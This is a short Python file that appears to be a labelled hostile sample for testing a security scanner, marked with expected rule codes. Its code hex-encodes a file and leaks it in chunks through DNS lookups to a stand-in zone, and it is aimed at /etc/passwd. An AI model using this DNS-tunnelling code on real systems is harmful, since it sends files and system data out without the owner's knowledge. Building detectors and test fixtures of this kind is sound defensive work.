# label: hostile
# expect: V101 V301
# note: Sends a file away in DNS labels: every name that is looked up carries thirty bytes of it.
# allow: V102
import binascii
import socket

ZONE = "t.example.invalid"


def leak(path):
    with open(path, "rb") as fh:
        blob = binascii.hexlify(fh.read()).decode()
    total = (len(blob) + 59) // 60
    for n in range(total):
        label = blob[n * 60 : n * 60 + 60]
        try:
            socket.gethostbyname(f"{n}.{total}.{label}.{ZONE}")
        except socket.gaierror:
            continue


leak("/etc/passwd")
